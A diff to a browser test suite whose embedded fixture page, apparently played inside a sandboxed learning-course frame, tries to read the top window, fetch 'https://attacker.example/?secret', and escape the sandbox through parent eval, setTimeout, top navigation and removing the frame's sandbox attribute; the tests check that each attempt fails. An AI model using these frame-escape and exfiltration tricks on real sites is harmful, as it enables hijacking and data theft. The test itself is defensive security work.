@@ -172,7 +172,19 @@ attempt("read", () => top.document.title);
 attempt("leave", () => { top.location = "https://attacker.example/"; });
 fetch("no/such.js");
 fetch("https://attacker.example/?secret").catch(() => { document.title = said.join(" "); });
-</script>"""
+const course = parent.document.getElementById("course");
+const away = "top.location = 'https://attacker.example/'";
+// A browser lets a frame of another origin lead its window away only after a press. Each press goes one way further.
+const ways = {
+  "": () => { parent.course = course; parent.setTimeout(`try { ${away} } catch { course.title = "tried 1"; }`); },
+  "tried 1": () => { parent.eval("open('https://attacker.example/', '_top')"); course.title = "tried 2"; },
+  "tried 2": () => { course.removeAttribute("sandbox"); course.title = "free"; location.reload(); },
+  free: () => { try { eval(away); } catch { course.title = "tried 3"; } },
+};
+const press = () => { (ways[course.title] ?? ways[""])(); };
+</script><button onclick="press()">Next page</button>
+<a href="index.html" target="_blank">Beside</a>
+<button onclick="document.title = String(confirm('Sure?'))">Ask</button><a href="index.html" download>Keep</a>"""
 
 
 @pytest.fixture
@@ -197,4 +209,16 @@ def test_a_package_of_another_tool_is_played_and_reaches_neither_the_inspector_n
     expect(calls.get_by_role("row", name="Missing")).to_contain_text("no/such.js")
     package = next(frame for frame in tab.frames if "/package/" in frame.url)
     package.wait_for_function("document.title === 'read: SecurityError leave: SecurityError'")
+    with context.expect_page() as beside:
+        package.get_by_text("Beside").click()
+    expect(beside.value.get_by_text("Next page")).to_be_visible()
+    beside.value.close()
+    tab.once("dialog", lambda dialog: dialog.accept())
+    package.get_by_text("Ask").click()
+    package.wait_for_function("document.title === 'true'")
+    with tab.expect_download():
+        package.get_by_text("Keep").click()
+    for tried in ("tried 1", "tried 2", "free", "tried 3"):
+        package.get_by_role("button", name="Next page").click()
+        expect(tab.frame_locator("#lms").locator("#course")).to_have_attribute("title", tried)
     assert tab.url == address
